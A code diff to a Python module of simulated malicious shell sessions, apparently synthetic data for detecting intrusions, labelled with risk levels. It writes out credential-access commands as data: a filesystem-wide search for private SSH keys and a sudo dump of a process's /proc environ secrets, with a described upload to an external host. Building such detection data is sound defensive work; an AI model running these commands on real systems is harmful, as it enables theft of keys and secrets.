@@ -1,6 +1,6 @@
 """Malicious sessions: credential access (with the discovery and exfiltration around it)."""
 
-from dsl import B, c, k, kp, p, ssh, wait
+from dsl import B, c, k, kp, p, ssh, wait, typo
 from snips import (ID_UBUNTU, OS_RELEASE_JAMMY, aws_key, b64, bcrypt, chars, ed25519_pub, hexs, ident, openssh_key,
                    passwd, ps_rows, rsa_key, shadow, uname_a, yescrypt)
 
@@ -72,7 +72,7 @@ SCENARIOS = [
         risk="CRITICAL",
         desc="Root on the bastion hunts private SSH keys across home directories, archives them and uploads the archive over HTTP to an external host",
         steps=[
-            c("hostname; whoami", "bastion-01\nroot"),
+            c(typo("hostname; whoami", 4, "an"), "bastion-01\nroot"),
             k("find / -xdev -type f \\( -name 'id_rsa' -o -name 'id_ed25519' -o -name '*.pem' \\) 2>/dev/null", """
                 /root/.ssh/id_ed25519
                 /home/ansible/.ssh/id_rsa
@@ -128,10 +128,10 @@ SCENARIOS = [
         risk="HIGH-CRITICAL",
         desc="Walks the application processes and dumps secrets from their /proc/<pid>/environ",
         steps=[
-            c("ps -eo pid,user,etime,cmd --sort=pid | grep -E 'gunicorn|node|java' | grep -v grep", """
-                   1874 app       21-03:11:52 /srv/shop/venv/bin/python3 /srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000 -w 4
-                   1921 app       21-03:11:50 /srv/shop/venv/bin/python3 /srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000 -w 4
-                   2210 app       21-03:11:47 /usr/bin/node /srv/notify/dist/server.js"""),
+            c("ps -eo pid,user,etime,cmd --sort=pid | grep -E 'gunicorn|node|java' | grep -v grep", "\n".join([
+                "   1874 app       21-03:11:52 /srv/shop/venv/bin/python3 /srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000 -w 4",
+                "   1921 app       21-03:11:50 /srv/shop/venv/bin/python3 /srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000 -w 4",
+                "   2210 app       21-03:11:47 /usr/bin/node /srv/notify/dist/server.js"])),
             k("sudo cat /proc/1874/environ | tr '\\0' '\\n'", f"""
                 LANG=C.UTF-8
                 PATH=/srv/shop/venv/bin:/usr/local/bin:/usr/bin:/bin
